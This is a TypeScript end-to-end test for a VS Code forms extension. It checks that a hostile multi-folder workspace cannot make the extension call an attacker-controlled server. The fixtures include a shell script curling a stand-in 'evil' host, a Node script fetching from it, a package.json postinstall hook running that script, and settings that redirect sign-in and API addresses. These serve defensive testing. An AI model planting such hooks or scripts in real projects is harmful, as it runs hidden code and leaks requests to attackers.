/**
 * A workspace with many folders, hostile everywhere: in its workspace file, in the settings of each folder, in
 * environment variables, and in programs in its folders. Whatever the window does, nothing reaches a server that nobody
 * signed in to. The test also shows that this server does notice requests.
 */
import assert from "node:assert/strict";
import { mkdir, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { capture } from "../../secure/capture.ts";
import type { Capture } from "../../secure/capture.ts";
import { hostileSettings, settingsFiles, spellings, variables } from "../../secure/hostileCases.ts";
import { useService } from "../story.ts";
import { activeTab, squiggles } from "../editors.ts";
import { dialog, notifications } from "../messages.ts";
import { answer, asks, quickInput, reloadWindow, runCommand } from "../palette.ts";
import { screenshot } from "../pictures.ts";
import { openView, treeItem } from "../sideBar.ts";
import { signInWithWizard } from "../signIn.ts";

/** A loopback address that the extension still calls through a proxy. Nothing listens there. */
const behindProxy = "https://127.0.0.2:9";

describe("a hostile workspace of many folders", () => {
  let evil: Capture;

  const { service, workbench, it } = useService("hostile-workspace", {
    options: async (undo) => {
      evil = undo.use(await capture());
      const own = new URL(service.ready.formsApiUrl).host;
      const fill = (text: string): string =>
        text
          .replaceAll("$evilPort", String(evil.port))
          .replaceAll("$evil", `127.0.0.1:${evil.port}`)
          .replaceAll("$own", own)
          .replaceAll("acme", "strandby");
      const environment = Object.fromEntries(
        variables.flatMap(([, given]) => Object.entries(given)).map(([name, value]) => [name, fill(value)]),
      );
      const write = (value: unknown): string => fill(JSON.stringify(value));
      const program = fill("#!/bin/sh\ncurl -s http://$evil/program\n");
      const script = fill("require('node:http').get('http://$evil/script');");
      const names = hostileSettings.map((_, index) => `case-${index}`);
      const folders = hostileSettings.flatMap(([, settings], index) => {
        const [, spell] = spellings[index % spellings.length] ?? assert.fail();
        const [, content] = settingsFiles[index % settingsFiles.length] ?? assert.fail();
        return Object.entries({
          ".vscode/settings.json": write(spell(settings)),
          "smartform.json": fill(content),
          "letter.sft": "Dear [[ customer,\n",
          evil: program,
          node: program,
          smartform: program,
          "evil.js": script,
          ".env": Object.entries(environment)
            .map((pair) => pair.join("="))
            .join("\n"),
          "package.json": write({ main: "evil.js", scripts: { postinstall: "./evil" } }),
          "sandbox.json": write({ ready: true, authUrl: "http://$evil", formsApiUrl: "http://$evil" }),
        }).map(([name, text]) => [`case-${index}/${name}`, text] as const);
      });
      const smartform = service.ready.demo.smartforms.singleStep;
      return {
        workspaceFile: "hostile.code-workspace",
        files: {
          ...Object.fromEntries(folders),
          "case-0/person.form.json": write({ dialogDefinitionId: smartform, values: { name: "Bo" } }),
          "hostile.code-workspace": write({
            folders: names.map((path) => ({ path })),
            settings: {
              ...Object.fromEntries(hostileSettings.toReversed().flatMap(([, settings]) => Object.entries(settings))),
              "terminal.integrated.env.linux": environment,
            },
          }),
        },
      };
    },
  });

  const assertUntouched = (): void => {
    assert.deepEqual(evil.arrived, []);
    assert.equal(evil.connections, 0);
  };

  /** Opens a file of the first folder. */
  async function openFromTree(name: string): Promise<void> {
    await workbench.page.locator(`.explorer-folders-view [role="treeitem"][aria-label^="${name}"]`).first().dblclick();
    await activeTab(workbench, name).waitFor();
  }

  /**
   * Tries to sign in at an address that only a proxy could reach, and waits for the message that it could not be
   * reached.
   */
  async function signInFar(): Promise<void> {
    await runCommand(workbench, "Smartform: Sign In to a Service");
    // If there is a signed-out connection, the command offers it first.
    const another = quickInput(workbench).locator(".monaco-list-row", { hasText: "Another Service…" });
    await another.or(quickInput(workbench).getByText("Name of the connection")).first().waitFor();
    if (await another.isVisible()) await another.click();
    const answers = [
      ["Name of the connection", "far"],
      ["Address of the token service", behindProxy],
      ["Address of the forms API", behindProxy],
      ["Address of the forms application", behindProxy],
      ["Client id", "client"],
      ["Client secret", "canary-secret"],
    ] as const;
    for (const [prompt, text] of answers) {
      await asks(workbench, prompt);
      await answer(workbench, text);
    }
    await dialog(workbench).getByText("Not signed in").waitFor();
    await screenshot(workbench, "hostile-workspace-far");
    await workbench.page.keyboard.press("Escape");
    await dialog(workbench).waitFor({ state: "detached" });
  }

  it("is opened, and its files are checked, without a call", async () => {
    await openFromTree("letter.sft");
    await squiggles(workbench, "error").first().waitFor();
    assertUntouched();
  });

  it("does not redirect the reads and writes of a signed-in person", async () => {
    await signInWithWizard(workbench, service, { name: "strandby", folder: "Claims" });
    await openView(workbench, "Explorer");
    await openFromTree("person.form.json");
    await runCommand(workbench, "Smartform Forms: Create Test Form");
    await notifications(workbench).filter({ hasText: "A test form was created" }).first().waitFor();
    await screenshot(workbench, "hostile-workspace");
    const asked = (await service.control("GET", "/ledger")).at("items") as readonly {
      readonly operation: string | null;
    }[];
    assert.equal(asked.filter(({ operation }) => operation === "forms.create").length, 1);
    assertUntouched();
  });

  it("adds no proxy to a sign-in", async () => {
    await signInFar();
    assertUntouched();
  });

  it("starts none of its own programs for the sandbox", async () => {
    await openView(workbench, "Smartform");
    await runCommand(workbench, "Smartform: Use the Sandbox");
    await workbench.page.locator(".statusbar").getByText("Smartform Sandbox").waitFor({ timeout: 60_000 });
    await treeItem(workbench, "Claims").waitFor();
    assertUntouched();
  });

  it("would be noticed: the same proxy in the user's own settings is used", async () => {
    await mkdir(join(workbench.data, "data", "User"), { recursive: true });
    await writeFile(join(workbench.data, "data", "User", "settings.json"), JSON.stringify({ "http.proxy": evil.url }));
    await reloadWindow(workbench);
    await workbench.page.locator(".statusbar").getByText("Smartform Sandbox").waitFor({ timeout: 60_000 });
    await signInFar();
    assert.ok(evil.arrived.some(({ method, url }) => method === "CONNECT" && url === "127.0.0.2:9"));
  });
});
